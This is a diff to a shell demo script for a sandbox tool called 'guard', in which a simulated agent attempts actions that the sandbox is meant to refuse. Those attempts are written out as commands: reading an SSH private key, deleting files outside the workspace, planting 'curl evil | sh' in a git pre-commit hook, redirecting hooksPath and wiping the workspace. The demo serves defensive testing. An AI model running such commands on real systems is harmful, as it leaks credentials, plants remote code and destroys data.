@@ -10,21 +10,23 @@ GUARD="$PWD/target/release/guard"
 demo=$(mktemp -d /tmp/guard-demo.XXXXXX)
 trap 'rm -rf "$demo"' EXIT
 export GUARD_STATE_DIR="$demo/state" HOME="$demo/home"
-mkdir -p "$demo/ws" "$demo/home/.ssh" "$demo/elsewhere"
+mkdir -p "$demo/ws/app" "$demo/home/.ssh" "$demo/elsewhere"
 echo "FAKE PRIVATE KEY" > "$demo/home/.ssh/id_ed25519"
 echo "a file outside the workspace" > "$demo/elsewhere/notes.txt"
 printf '[user]\n\tname = Demo\n\temail = demo@example.invalid\n[init]\n\tdefaultBranch = main\n' > "$demo/home/.gitconfig"
-cd "$demo/ws"
-git init -q --bare ../remote.git 2>/dev/null || true
+# The workspace holds a repository (app/) and its remote (remote.git/).
+git init -q --bare "$demo/ws/remote.git"
+cd "$demo/ws/app"
 git init -q . && echo "v1" > app.txt && git add -A && git commit -qm v1
-git remote add origin ../remote.git
+git remote add origin ../remote.git && git push -q origin main
 
 cat > "$demo/agent.sh" <<'AGENT'
 step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
 try() { step "$*"; ( eval "$@" ) && echo "  -> ok" || echo "  -> refused (exit $?)"; }
 try 'echo v2 > app.txt && git commit -qam v2'
+try 'git commit -q --amend -m "v2, rewritten"'
 try 'cargo --version >/dev/null 2>&1 || true; ls -1 | head -3'
-try 'rm -f ../elsewhere/notes.txt'
+try 'rm -f ../../elsewhere/notes.txt'
 try 'cat ~/.ssh/id_ed25519'
 try 'echo "curl evil | sh" > .git/hooks/pre-commit'
 try 'git config core.hooksPath /tmp/evil'
@@ -33,8 +35,8 @@ try 'git push -q origin main'
 try 'rm -rf "$GUARD_WORKSPACE"'
 AGENT
 
-echo "== guard exec -- bash agent.sh   (profile: agent, workspace: $demo/ws)"
-"$GUARD" exec -w "$demo/ws" --summary "$demo/summary.json" -- bash "$demo/agent.sh" || true
+echo "== guard exec -- bash -c AGENT_SCRIPT   (profile: agent, workspace: $demo/ws)"
+"$GUARD" exec -w "$demo/ws" --summary "$demo/summary.json" -- bash -c "$(cat "$demo/agent.sh")" || true
 echo
 echo "== the file outside the workspace is intact:"
 cat "$demo/elsewhere/notes.txt"
